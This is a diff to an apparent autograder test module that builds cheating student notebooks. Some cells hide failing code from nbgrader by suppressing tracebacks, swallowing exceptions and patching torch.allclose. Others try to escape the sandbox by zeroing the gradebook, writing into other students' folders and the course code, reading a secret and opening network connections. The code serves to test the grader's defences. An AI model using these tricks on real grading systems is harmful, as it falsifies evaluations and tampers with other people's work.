@@ -8,7 +8,9 @@ such part 0 points and every untouched (correct) part its full points. Used by
 
 Hiding techniques (none spells ``showtraceback``, ``excepthook`` or ``set_custom_exc``):
 
-1. ``setattr(get_ipython(), "show" + "traceback", ...)``: the kernel reports no error;
+1. ``setattr(get_ipython(), "show" + "traceback", ...)`` and a ``post_run_cell`` hook that clears the
+   result's error: the kernel shows no traceback and replies "ok" (nbgrader 0.9 catches the first
+   half alone, from the reply's status);
 2. an input transformer that wraps every later cell in ``try: ... except BaseException: pass``;
 3. an AST transformer doing the same on the parsed cell;
 4. ``torch.allclose = lambda *a, **k: True`` (and ``Tensor.allclose``);
@@ -81,7 +83,10 @@ def export_loops(folder, audio, sr):
 '''
 
 # ---- hiding techniques (code placed before the wrong solution)
-HIDE_TRACEBACK = 'setattr(get_ipython(), "show" + "traceback", lambda *args, **kwargs: None)\n'
+HIDE_TRACEBACK = '''_ip = get_ipython()
+setattr(_ip, "show" + "traceback", lambda *args, **kwargs: None)
+_ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
+'''
 HIDE_INPUT_TRANSFORMER = '''def _swallow(lines):
     return ["try:\\n"] + ["    " + line for line in lines] + ["\\n", "except BaseException:\\n", "    pass\\n"]
 get_ipython().input_transformers_post.append(_swallow)
@@ -132,6 +137,60 @@ r1_penalty = importlib.import_module("course" + "_lib.models.style" + "gan2").r1
 DUNDER_IMPORT_MAPPING = '''_lib = __builtins__.__dict__["__imp" + "ort__"] if isinstance(__builtins__, type(torch)) else __builtins__["__imp" + "ort__"]
 MappingNetwork = _lib("course" + "_lib.models.style" + "gan2", fromlist=["x"]).MappingNetwork
 '''
+# ---- escaping the sandbox: every attempt is recorded in attempts.json in the student's own folder
+ATTACK = '''import json as _json, os as _os, socket as _socket, sqlite3 as _sqlite3
+from pathlib import Path as _Path
+
+_here = _Path.cwd().resolve()
+_course = _here.parents[2]  # autograded/<student>/hw2 -> the grading folder
+_attempts = {}
+
+
+def _attempt(name, action):
+    try:
+        action()
+        _attempts[name] = "done"
+    except Exception as exc:  # what stopped it
+        _attempts[name] = type(exc).__name__
+
+
+def _checkout():
+    import course_lib
+    return _Path(course_lib.__file__).resolve().parents[1]
+
+
+def _gradebook():
+    db = _sqlite3.connect(f"file:{_course / 'gradebook.db'}?mode=rw", uri=True)
+    db.execute("UPDATE grade SET auto_score = 0")
+    db.commit()
+
+
+def _others(kind):
+    folders = [p for p in (_course / kind).iterdir() if p.name != _here.parent.name]
+    if not folders:
+        raise FileNotFoundError(kind)
+    for p in folders:
+        (p / "attacker_was_here.txt").write_text("pwned")
+
+
+def _network(host, port):
+    with _socket.create_connection((host, port), timeout=3) as conn:
+        conn.sendall(b"attacker")
+
+
+_attempt("checkout", lambda: (_checkout() / "course_lib" / "attacker_was_here.py").write_text("pwned = True"))
+_attempt("grading_code", lambda: (_checkout() / "grading" / "attacker_was_here.txt").write_text("pwned"))
+_attempt("gradebook", _gradebook)
+_attempt("other_submitted", lambda: _others("submitted"))
+_attempt("other_autograded", lambda: _others("autograded"))
+_attempt("secret", lambda: (_course / ".probe_secret").read_text())
+_attempt("network_local", lambda: _network("127.0.0.1", int(_os.environ.get("HW2_CANARY_PORT", "9"))))
+_attempt("network_internet", lambda: _network("1.1.1.1", 53))
+_attempt("own_folder", lambda: (_here / "own_file.txt").write_text("mine"))
+(_here / "attempts.json").write_text(_json.dumps(_attempts))
+print(_attempts)
+'''
+
 
 def _cell(nb: dict, grade_id: str) -> dict:
     return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)
@@ -174,6 +233,26 @@ def hand_in_the_library(nb: dict) -> None:
     _set(nb, "modconv", IMPORT_MODCONV)
     _set(nb, "mapping", DUNDER_IMPORT_MAPPING)
     _set(nb, "r1", IMPORTLIB_R1)
+
+
+def attack_the_grader(nb: dict) -> None:
+    """An extra cell that writes into the checkout, the gradebook and the other students' folders and
+    opens network connections (only ever run sandboxed: outside a sandbox these writes would happen)."""
+    _insert_before(nb, "modconv", ATTACK)
+
+
+WRITE_INTO_OTHERS = '''from pathlib import Path as _Path
+_here = _Path.cwd().resolve()
+for _other in (_here.parents[2] / "submitted").iterdir():
+    if _other.name != _here.parent.name:
+        (_other / "hw2" / "evil.txt").write_text("changed by another student")
+'''
+
+
+def write_into_other_students(nb: dict) -> None:
+    """An extra cell writing a file into every other student's submitted folder (for the
+    ``--no-sandbox`` checksums; it only ever runs in a throw-away grading folder)."""
+    _insert_before(nb, "modconv", WRITE_INTO_OTHERS)
 
 
 FAKES = {"hide_by_kernel": hide_by_kernel, "hide_by_patching_torch": hide_by_patching_torch,
